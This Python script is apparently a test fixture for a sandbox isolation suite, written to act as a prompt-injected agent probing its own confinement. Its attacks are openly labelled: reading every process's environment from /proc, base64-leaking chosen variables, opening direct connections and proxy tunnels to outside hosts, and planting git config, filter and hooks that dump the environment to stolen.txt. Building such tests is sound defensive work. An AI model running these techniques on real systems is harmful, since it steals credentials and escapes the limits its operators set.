"""A prompt-injected agent for the isolation attack suite: each flag is one attack, its findings go to a file.

Findings go to `findings.txt` in the work tree (which is delivered), one `attack: result` line each,
so the tests read what the agent could and could not do from the pull request's branch.
"""

from __future__ import annotations

import argparse
import base64
import os
import socket
import subprocess
from pathlib import Path

FINDINGS = Path("findings.txt")


def note(attack: str, result: str) -> None:
    with FINDINGS.open("a", encoding="utf-8") as fh:
        fh.write(f"{attack}: {result}\n")


def read(path: str) -> str:
    try:
        return Path(path).read_text(errors="replace")
    except OSError as exc:
        return f"denied ({type(exc).__name__})"


def proc_environ() -> None:
    """Walk up the parents and read every /proc/*/environ we can see."""
    seen = []
    for entry in sorted(Path("/proc").glob("[0-9]*")):
        seen.append(f"{entry.name}={read(str(entry / 'environ')).replace(chr(0), ' ')}")
    pid, chain = os.getpid(), []
    while pid > 1:
        stat = read(f"/proc/{pid}/stat")
        pid = int(stat.rsplit(")", 1)[1].split()[1]) if ")" in stat else 0
        chain.append(pid)
    note("proc", f"parents {chain} environs {' | '.join(seen)}")


def write_file(path: str) -> None:
    try:
        with open(path, "a", encoding="utf-8") as fh:
            fh.write("::set-output name=pwned::yes\n")
        note("write", f"{path} written")
    except OSError as exc:
        note("write", f"{path} denied ({type(exc).__name__})")


def connect(host: str, port: int) -> None:
    try:
        with socket.create_connection((host, port), timeout=5) as conn:
            conn.sendall(b"GET /direct HTTP/1.0\r\n\r\n")
            note("connect", f"{host}:{port} reached: {conn.recv(100)!r}")
    except OSError as exc:
        note("connect", f"{host}:{port} blocked ({type(exc).__name__})")


def via_proxy(host: str, port: int) -> None:
    """CONNECT through the egress proxy the environment names."""
    proxy = os.environ.get("HTTPS_PROXY", "")
    if not proxy:
        return note("proxy", "no proxy")
    proxy_host, proxy_port = proxy.removeprefix("http://").rstrip("/").split(":")
    with socket.create_connection((proxy_host, int(proxy_port)), timeout=5) as conn:
        conn.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        note("proxy", f"{host}:{port} -> {conn.recv(200).decode(errors='replace').splitlines()[0]}")


def plant_git(real_git_dir: str) -> None:
    """Plant config, attributes and hooks wherever the worker's git might read them."""
    steal = Path.cwd() / "steal.sh"
    steal.write_text(f"#!/bin/sh\nenv > {real_git_dir}/../../stolen.txt\ncat\n")
    steal.chmod(0o755)
    Path(".gitattributes").write_text("* filter=steal\n")
    Path(".git").mkdir(exist_ok=True)
    config = f'[protocol "ext"]\n\tallow = always\n[url "ext::{steal}"]\n\tinsteadOf = http\n'
    config += f'[filter "steal"]\n\tclean = {steal}\n[core]\n\thooksPath = {Path.cwd()}\n'
    Path(".git/config").write_text(config)
    for hook in ("pre-commit", "pre-push", "post-commit"):
        Path(hook).write_text(f"#!/bin/sh\nenv > {real_git_dir}/../../stolen.txt\n")
        Path(hook).chmod(0o755)
    for target in (f"{real_git_dir}/config", f"{real_git_dir}/hooks/pre-push"):
        write_file(target)
    note("git", "planted")


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--proc", action="store_true")
    parser.add_argument("--read", action="append", default=[])
    parser.add_argument("--write", action="append", default=[])
    parser.add_argument("--connect", action="append", default=[], help="HOST:PORT")
    parser.add_argument("--proxy", action="append", default=[], help="HOST:PORT")
    parser.add_argument("--plant-git", metavar="REAL_GIT_DIR")
    parser.add_argument("--say", action="append", default=[], help="a progress line")
    parser.add_argument("--progress-bytes", type=int, default=0)
    parser.add_argument("--sleep", type=float, default=0)
    parser.add_argument("--leak", metavar="VARIABLE", help="write the variable's value, base64-encoded, to a file")
    args = parser.parse_args()

    note("env", " ".join(f"{k}={v}" for k, v in sorted(os.environ.items())))
    if args.proc:
        proc_environ()
    for path in args.read:
        note("read", f"{path}: {read(path)}")
    for path in args.write:
        write_file(path)
    for target in args.connect:
        host, port = target.rsplit(":", 1)
        connect(host, int(port))
    for target in args.proxy:
        host, port = target.rsplit(":", 1)
        via_proxy(host, int(port))
    if args.leak:
        Path("leak.txt").write_text(base64.b64encode(os.environ.get(args.leak, "").encode()).decode())
    if args.plant_git:
        plant_git(args.plant_git)
    with open(os.environ["CCC_PROGRESS_FILE"], "a", encoding="utf-8") as progress:
        for line in args.say:
            progress.write(line + "\n")
        line = "x" * 199 + "\n"
        for _ in range(args.progress_bytes // len(line)):
            progress.write(line)
    if args.sleep:
        Path("pid.txt").write_text(str(os.getpid()))
        subprocess.run(["sleep", str(args.sleep)])
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
